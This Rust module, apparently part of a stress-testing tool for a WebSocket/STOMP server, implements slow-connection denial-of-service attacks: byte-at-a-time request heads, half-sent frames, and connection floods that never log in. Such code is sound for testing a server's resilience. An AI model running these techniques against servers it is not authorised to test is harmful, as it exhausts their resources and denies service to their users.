//! Attacks that hold connections and say little.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::thread::sleep;
use std::time::Duration;

use super::{Front, Options, Pace};
use crate::session::{Dialogue, client_frame, upgrade_request};

/// A byte on each connection in this time: slower than any time-out would like, faster than silence.
const DRIBBLE: Duration = Duration::from_secs(1);

/// Request heads, a byte at a time, for ever.
pub(super) fn heads(front: &Front, options: &Options, _: usize) {
    let request = upgrade_request(front.to);
    let start = request.len() / 2;
    let begin = |front: &Front, _| {
        let mut stream = front.connect()?;
        stream.write_all(request.as_bytes().get(..start)?).ok()?;
        Some(stream)
    };
    dribble(front, options.heads, begin);
}

/// Half frames of four kinds, then a byte at a time.
pub(super) fn halves(front: &Front, options: &Options, _: usize) {
    dribble(front, options.halves, half);
}

fn half(front: &Front, number: usize) -> Option<TcpStream> {
    let mut dialogue = Dialogue::new(front.connect()?);
    dialogue.upgrade(front.to).ok()?;
    let bytes = match number % 4 {
        // Half of a head; ten bytes of many; half of a STOMP frame's head; half of its body.
        0 => vec![0x81, 0xFE],
        1 => [&[0x81, 0xFE, 0x10, 0, 0, 0, 0, 0][..], b"CONNECT\nlo"].concat(),
        2 => [
            &[0x01, 0x8A, 0, 0, 0, 0][..],
            b"CONNECT\nlo",
            &[0x00, 0xFE, 0x10, 0, 0, 0, 0, 0],
        ]
        .concat(),
        _ => {
            dialogue.log_in(3, "0,0").ok()?;
            let mut begun = client_frame(b"SEND\ndestination:/app/nothing\ncontent-length:100000\n\nxxx");
            begun.extend([0x82, 0xFE, 0xFF, 0, 0, 0, 0, 0]);
            begun
        }
    };
    dialogue.stream.write_all(&bytes).ok()?;
    Some(dialogue.stream)
}

fn dribble(front: &Front, count: usize, begin: impl Fn(&Front, usize) -> Option<TcpStream>) {
    let mut held: Vec<Option<TcpStream>> = Vec::new();
    held.resize_with(count, || None);
    while !front.is_over() {
        let turn = std::time::Instant::now();
        for (number, place) in held.iter_mut().enumerate() {
            if front.is_over() {
                return;
            }
            let lost = match place {
                Some(stream) => is_lost(stream) || stream.write_all(b"x").is_err(),
                None => false,
            };
            if lost {
                front.count_ended();
                *place = None;
            }
            match place {
                Some(_) => front.count(1),
                None => *place = begin(front, number),
            }
        }
        sleep(DRIBBLE.saturating_sub(turn.elapsed()));
    }
}

/// Connections that never log in, in their own rate; the oldest make room for new ones.
pub(super) fn connects(front: &Front, options: &Options, _: usize) {
    let mut pace = Pace::of(options.connects_per_second);
    let mut held = std::collections::VecDeque::new();
    let request = upgrade_request(front.to);
    while !front.is_over() {
        pace.wait(1);
        let Some(mut stream) = front.connect() else {
            continue;
        };
        // Every second one gets as far as it can without a login.
        if front
            .connected
            .load(std::sync::atomic::Ordering::Relaxed)
            .is_multiple_of(2)
            && stream.write_all(request.as_bytes()).is_err()
        {
            front.count_ended();
        }
        front.count(1);
        held.push_back(stream);
        if held.len() > options.connects {
            held.pop_front();
        }
    }
}

/// Whether the server has ended the connection; drops what it said.
fn is_lost(stream: &mut TcpStream) -> bool {
    let mut read = || -> std::io::Result<bool> {
        stream.set_nonblocking(true)?;
        let outcome = loop {
            match stream.read(&mut [0; 4096]) {
                Ok(0) => break Ok(true),
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => break Ok(false),
                Err(error) => break Err(error),
            }
        };
        stream.set_nonblocking(false)?;
        outcome
    };
    read().unwrap_or(true)
}
